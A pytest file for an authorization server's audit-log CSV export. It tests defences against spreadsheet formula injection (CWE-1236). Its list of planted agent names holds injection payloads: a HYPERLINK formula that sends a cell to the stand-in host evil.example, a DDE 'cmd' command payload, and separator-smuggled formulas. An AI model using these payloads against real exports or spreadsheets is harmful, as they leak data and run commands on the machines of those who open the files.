"""An agent is named `=HYPERLINK(…)`; the security officer opens the exported audit log in a spreadsheet, which runs it.

Whoever may name an agent, or send a request that is refused, could so reach into the officer's desk: read other cells,
call out, on old installations start programs (CWE-1236).
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from authsec_server.audit import export
from authsec_server.audit import service as audit
from authsec_server.audit.model import Event, EventKind, Named
from authsec_server.db import Database
from authsec_server.principal import LOCAL_OPERATOR
from long_runs import some_of

NOW = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)
PLANTED = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",  # noqa: RUF001 - the wide sign is meant - some spreadsheets fold it to the narrow one
    'nice name";=1+1;"',  # where the list separator is a semicolon
    "nice name;=1+1",
    "nice name,=1+1",
    "nice name\n=1+1",
]
RUN = re.compile(r"\s*[=+\-@＝]")  # noqa: RUF001 - the wide sign is meant


@pytest.mark.parametrize("planted", some_of(PLANTED))
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_no_cell_begins_like_a_formula(database: Database, planted: str, separator: str) -> None:
    named = Named(id="id", name=planted)
    event = Event(
        at=NOW,
        kind=EventKind.CLIENT_CREATED,
        request_id="req_000000000000000000000001",
        client=named,
        subject=named,
        delegations=(Named(id="id", name="first"), named),
        roles=(named,),
        detail={"after": {"name": planted}},
    )
    database.append(lambda tx: audit.record(tx, event))
    exported = "".join(export.csv_lines(database, LOCAL_OPERATOR))
    assert "1" in exported
    rows = list(csv.reader(io.StringIO(exported, newline=""), delimiter=separator))
    pieces = [piece for row in rows for cell in row for piece in re.split(r"[\n;,|\t]", cell)]
    assert [piece for piece in pieces if RUN.match(piece)] == []


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_harmless_name_is_left_as_it_is(database: Database) -> None:
    name = "Customer-Support (a+b) at 10=10 @home; second"
    event = Event(
        at=NOW,
        kind=EventKind.CLIENT_CREATED,
        request_id="req_000000000000000000000001",
        client=Named(id="id", name=name),
    )
    database.append(lambda tx: audit.record(tx, event))
    (row,) = csv.DictReader(io.StringIO("".join(export.csv_lines(database, LOCAL_OPERATOR)), newline=""))
    assert row["client_name"] == name
